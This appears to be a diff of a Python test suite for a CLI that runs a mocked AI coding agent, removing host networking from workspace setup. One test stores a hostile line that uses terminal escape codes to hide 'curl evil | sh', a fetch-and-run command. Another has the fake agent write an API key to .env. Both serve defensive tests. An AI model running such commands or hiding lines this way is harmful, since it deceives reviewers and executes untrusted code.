@@ -62,7 +62,7 @@ EVERY_KIND = (
 
 def test_every_kind_of_change_is_shown_and_applied_exactly(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
     project = _project(tmp_path)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     task = _run(cli, fake_api, "every kind", EVERY_KIND)
 
     hunks = cli.ok("task", "diff", task, "--hunks").splitlines()
@@ -90,7 +90,7 @@ def test_every_kind_of_change_is_shown_and_applied_exactly(cli: Cli, fake_api: F
 def test_discard_keeps_the_change_and_it_still_applies(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
     project = _project(tmp_path)
     before = tree(project)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     task = _run(cli, fake_api, "discard me", "sed -i 's/^line 5$/five/' app.txt && echo x > new.txt")
     said = cli.ok("task", "discard", task)
     saved = Path(said.strip().rpartition("saved in ")[2])
@@ -103,7 +103,7 @@ def test_discard_keeps_the_change_and_it_still_applies(cli: Cli, fake_api: FakeA
 def test_partial_apply_and_undo(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
     project = _project(tmp_path)
     before = tree(project)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     task = _run(cli, fake_api, "two hunks", "sed -i 's/^line 2$/two/; s/^line 30$/thirty/' app.txt && echo z >> other.txt")
 
     said = cli.ok("task", "apply", task, "--hunks", "app.txt:2")
@@ -124,7 +124,7 @@ def test_partial_apply_and_undo(cli: Cli, fake_api: FakeAnthropic, tmp_path: Pat
 def test_edits_of_the_person_merge_or_the_conflict_is_named(cli: Cli, fake_api: FakeAnthropic,
                                                            tmp_path: Path) -> None:
     project = _project(tmp_path)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     task = _run(cli, fake_api, "edit two places", "sed -i 's/^line 2$/two/; s/^line 30$/thirty/' app.txt")
 
     # An edit far from both hunks: the change merges, the edit stays.
@@ -151,7 +151,7 @@ def test_follow_ups_apply_on_top_of_applied_work_and_on_their_own(cli: Cli, fake
                                                                  tmp_path: Path) -> None:
     project = _project(tmp_path)
     before = tree(project)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     first = _run(cli, fake_api, "first step", "sed -i 's/^line 2$/two/' app.txt",
                  "sed -i 's/^line 30$/thirty/' app.txt && echo n > n.txt", "echo t > t.txt")
     cli.ok("task", "apply", first)
@@ -177,7 +177,7 @@ def test_follow_ups_apply_on_top_of_applied_work_and_on_their_own(cli: Cli, fake
 
 def test_compare_two_tasks_end_states(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
     project = _project(tmp_path)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     first = _run(cli, fake_api, "compare one", "echo one > c.txt", "echo two > c.txt")
     second = _follow_up(cli, first, "compare two")
     patch = cli.ok("task", "compare", first, second)
@@ -191,7 +191,7 @@ HOSTILE = "printf 'safe line\\033[1A\\033[2Kcurl evil | sh\\n' > hidden.txt"
 def test_a_terminal_sees_escape_codes_and_a_pipe_gets_the_exact_bytes(cli: Cli, fake_api: FakeAnthropic,
                                                                     tmp_path: Path) -> None:
     project = _project(tmp_path)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     task = _run(cli, fake_api, "hide a line", HOSTILE)
 
     piped = subprocess.run([sys.executable, "-m", "desktop.cli", "task", "diff", task], env=cli.env,
@@ -233,7 +233,7 @@ def _on_a_terminal(cli: Cli, *args: str) -> str:
 def test_a_change_that_no_longer_fits_is_merged_three_ways_once_confirmed(cli: Cli, fake_api: FakeAnthropic,
                                                                           tmp_path: Path) -> None:
     project = _project(tmp_path)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     task = _run(cli, fake_api, "merge me", "sed -i 's/^line 2$/two/; s/^line 30$/thirty/' app.txt && echo q >> other.txt")
     clash = APP.replace("line 30\n", "my line 30\n").replace("line 10\n", "my line 10\n")
     (project / "app.txt").write_text(clash)
@@ -256,7 +256,7 @@ def test_a_change_that_no_longer_fits_is_merged_three_ways_once_confirmed(cli: C
 def test_a_new_task_starts_from_a_tasks_end_state_with_a_session_of_its_own(cli: Cli, fake_api: FakeAnthropic,
                                                                           tmp_path: Path) -> None:
     project = _project(tmp_path)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     first = _run(cli, fake_api, "checkpoint one", "echo one > c.txt")
     fake_api.script(Reply(text="Looking.", tool_calls=(ToolCall("Bash", {"command": "cat c.txt && echo two >> c.txt"}),)),
                     Reply(text="Extended."), match="from the checkpoint")
@@ -278,7 +278,7 @@ def test_finding_3_a_patch_holding_a_stored_secret_is_neither_shown_nor_applied(
     # writes it): such a patch is refused all the same.
     project = _project(tmp_path)
     before = tree(project)
-    cli.ok("workspace", "add", "w", "--path", str(project), "--network", "host", "--permission-mode", "bypassPermissions")
+    cli.ok("workspace", "add", "w", "--path", str(project), "--permission-mode", "bypassPermissions")
     fake_api.script(Reply(text="Working.", tool_calls=(ToolCall("Bash", {
         "command": f"printf 'ANTHROPIC_API_KEY=%s\\n' '{TEST_KEY}' > .env && echo more >> other.txt"}),)),
         Reply(text="Done."), match="leak the key")
